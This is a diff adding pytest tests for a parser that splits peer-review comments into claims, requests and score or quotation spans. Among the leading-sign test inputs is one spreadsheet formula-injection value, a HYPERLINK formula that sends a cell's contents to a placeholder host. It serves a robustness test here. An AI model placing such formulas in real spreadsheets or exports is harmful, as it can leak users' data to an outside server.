@@ -544,3 +544,107 @@ def test_what_the_authors_say_keeps_that_they_say_it(verb: str) -> None:
 
 def test_a_why_without_inversion_takes_its_clause_for_granted() -> None:
     assert claims("Why PointReg is better on lakes with one bird?") == ["PointReg is better on lakes with one bird."]
+
+
+@pytest.mark.parametrize(
+    "doubt",
+    [
+        "Unless I missed it,",
+        "Unless I’m mistaken,",
+        "If I understand correctly,",
+        "As far as I can tell,",
+        "Maybe I missed it, but",
+        "I may have missed this, but",
+        "Correct me if I am wrong, but",
+    ],
+)
+@pytest.mark.parametrize(
+    ("written", "stated"),
+    [
+        ("no significance test is reported.", "no significance test is reported."),
+        ("no ablation.", "the paper gives no ablation."),
+        ("the bound would be loose.", "the bound would be loose."),
+    ],
+)
+def test_a_doubt_about_the_own_reading_stays_before_the_claim_and_is_none_itself(
+    doubt: str, written: str, stated: str
+) -> None:
+    found = apart(f"{doubt} {written}")
+    assert [(claim.text, claim.quote) for claim in found.claims] == [(f"{doubt} {stated}", f"{doubt} {written}")]
+    assert (found.asks, found.unused) == ((), ())
+
+
+def test_a_question_after_a_doubt_is_a_request_and_no_claim() -> None:
+    found = apart("Correct me if I am wrong, but is the error measured on the test split?")
+    assert (found.claims, [ask.text for ask in found.asks]) == ((), ["Is the error measured on the test split?"])
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "The gain may come from the larger batch.",
+        "Unless the ponds are frozen, the method counts coots well.",
+        "The method seems to miss small coots.",
+    ],
+)
+def test_a_hedge_about_the_paper_stays_in_the_claim(written: str) -> None:
+    assert claims(written) == [written]
+
+
+@pytest.mark.parametrize(
+    ("written", "stated"),
+    [
+        (r"The bound in Eq.~\ref{eq:1} is loose.", "The bound in Eq. 1 is loose."),
+        (r"The bound in Eq.~\eqref{eq:bound} is loose.", "The bound in Eq. bound is loose."),
+        (r"The bound in Equation (\ref{3.2}) is loose.", "The bound in Equation (3.2) is loose."),
+        (r"The numbers in \cref{tab:main_results} are wrong.", "The numbers in Table main results are wrong."),
+        (r"\autoref{fig:2} has no legend.", "Figure 2 has no legend."),
+        (r"The curves of \cref{fig:2,fig:3} are too small.", "The curves of Figure 2 and 3 are too small."),
+        (r"The proof in Appendix~\ref{app:A} has a gap.", "The proof in Appendix A has a gap."),
+        (r"The step from line \ref{start} is wrong.", "The step from line start is wrong."),
+    ],
+)
+def test_a_latex_reference_reads_as_words_and_keeps_its_span(written: str, stated: str) -> None:
+    (claim,) = apart(written).claims
+    assert (claim.text, claim.quote) == (stated, written)
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "=2.7 is the error.",
+        '=HYPERLINK("http://example.invalid/?x="&A1,"open") is how the table was made.',
+        "-0.3 is the change in error.",
+        "+0.3 is the change in error.",
+        "@Net is the name of the method.",
+    ],
+)
+def test_a_leading_sign_is_part_of_a_claim(written: str) -> None:
+    assert claims(written) == [written]
+
+
+@pytest.mark.parametrize("written", ["-1 for style.", "+1 for clarity.", "− 1 point for the writing", "-2 on novelty."])
+def test_points_given_or_taken_are_a_score_and_no_claim(written: str) -> None:
+    found = apart(written)
+    assert (found.claims, found.asks, [span.why for span in found.unused]) == ((), (), ["score"])
+
+
+def test_a_change_of_a_measured_value_is_no_score() -> None:
+    assert claims("The error changes by -1 for small ponds.") == ["The error changes by -1 for small ponds."]
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "Literal text: use &lt; to write a less-than sign.",
+        "Verbatim: add the number of ponds to the table.",
+        "Example prompt: Explain the number of coots.",
+    ],
+)
+def test_text_shown_as_a_specimen_asks_for_nothing(written: str) -> None:
+    found = apart(written)
+    assert (found.claims, found.asks, [span.why for span in found.unused]) == ((), (), ["quotation"])
+
+
+def test_a_wish_under_a_label_is_still_a_wish() -> None:
+    assert asks("Suggestion: add the number of ponds to the table.") == ["Add the number of ponds to the table."]
